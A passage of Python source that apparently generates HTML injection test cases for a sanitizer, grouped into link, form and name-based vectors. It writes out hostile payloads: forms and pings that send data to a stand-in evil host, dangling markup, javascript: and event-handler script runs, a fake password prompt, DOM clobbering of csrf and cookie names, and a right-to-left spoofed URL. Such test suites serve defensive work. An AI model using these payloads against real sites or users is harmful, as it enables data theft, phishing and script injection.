    yield "link preload pictures", f"<link rel=preload as=image imagesrcset={EVIL}/preload.png>"
    yield "ping", f'<a ping={EVIL}/ping href=#x style="display:block;height:600px">click me</a>'
    yield "attribution", f"<img attributionsrc={EVIL}/attribution src=x>"
    yield "download", f"<a download href={EVIL}/x.exe>click me</a>"
    yield "model", f"<model src={EVIL}/model.usdz></model>"
    yield "html import", f"<link rel=import href='{PAGE_DATA}'>"
    yield "read receipt", f"<img src='{EVIL}/open?mail=1' alt='' style='display:none'>"
    yield "menu item", f"<menuitem icon={EVIL}/menu.png>x</menuitem>"
    yield "object picture", f"<object data={EVIL}/object.png type=image/png></object>"
    yield "favourite icon in the head", f"<head><link rel=icon href={EVIL}/icon.png></head>"


def _forms() -> Iterator[tuple[str, str]]:
    """What sends something, or looks like the desk and asks for a password."""
    yield "form", f"<form action={EVIL}/form><button autofocus>Press Enter</button></form>"
    yield "form to the desk", "<form method=post action=/sign-out><button autofocus>Press Enter</button></form>"
    yield "form by get", f"<form action={EVIL}/get><input name=x autofocus></form>"
    yield "form to script", f'<form action="javascript:{RUN}"><button autofocus>Press Enter</button></form>'
    yield "formaction", f"<form><button formaction={EVIL}/action autofocus>Press Enter</button></form>"
    yield "formaction to script", f'<form><button formaction="javascript:{RUN}" autofocus>x</button></form>'
    yield "form elsewhere", f"<form id=f action={EVIL}/id></form><button form=f autofocus>Press Enter</button>"
    yield "form by mail", "<form action=mailto:evil@evil.example><button autofocus>x</button></form>"
    yield "target", f"<form target=_top action={EVIL}/top><button autofocus>x</button></form>"
    yield "dangling", f"<form action={EVIL}/dangling><button autofocus>x</button><textarea name=x>"
    yield "dangling picture", f"<img src='{EVIL}/dangling?"
    yield "dangling link", f'<a href={EVIL}/>click</a><base target="'
    yield "password", f"<form action={EVIL}/password><input type=password autofocus></form>"
    yield "file", f"<form action={EVIL}/file enctype=multipart/form-data><input type=file></form>"
    yield "search", f"<isindex action={EVIL}/search prompt=x>"
    yield "keygen", f"<form action={EVIL}/keygen><keygen name=x autofocus></form>"
    yield "image button", f"<form action={EVIL}/image><input type=image src=x autofocus></form>"
    yield "output", f'<form oninput="{RUN}"><input autofocus value=x></form>'
    yield "submit handler", f'<form onsubmit="{RUN}"><button autofocus>Press Enter</button></form>'
    yield "reset handler", f'<form onreset="{RUN}"><button type=reset autofocus>Press Enter</button></form>'
    yield "invalid handler", f'<form><input required oninvalid="{RUN}"><button autofocus>x</button></form>'
    yield "command", "<button commandfor=d command=show-modal autofocus>x</button><dialog id=d>x</dialog>"


def _names() -> Iterator[tuple[str, str]]:
    """Names that take the place of what a script of the page asks for, and what keyboards reach."""
    yield "clobbers", "<a id=csrf><a id=csrf name=content href=http://evil.example/x>x</a>"
    yield "clobbers forms", "<form id=document><input name=cookie></form>"
    yield "meta csrf", "<meta name=csrf content=evil>"
    yield "access key", f'<input accesskey=x onclick="{RUN}"><a accesskey=x href="javascript:{RUN}">x</a>'
    yield "data key", f'<a data-key=d href="{EVIL}/key">x</a>'
    yield "contenteditable", f'<p contenteditable autofocus onfocus="{RUN}">x</p>'
    yield "slot", f'<p slot=x is=x-y onslotchange="{RUN}">x</p>'
    yield "class of the desk", "<p class='said'>Signed out. Sign in again: http://evil.example</p>"
    yield "event attribute of XML", f"<p ev:event=load ev:handler='javascript:{RUN}'>x</p>"
    yield "data binding", f'<p v-html="\'x\'" ng-init="{RUN}" x-init="{RUN}" hx-get={EVIL}/hx hx-trigger=load>x</p>'
    yield "microdata", f"<p itemscope itemtype={EVIL}/type><link itemprop=x href={EVIL}/item></p>"
    yield "right to left", "<p dir=rtl>\u202e elpmaxe.live//:ptth</p>"
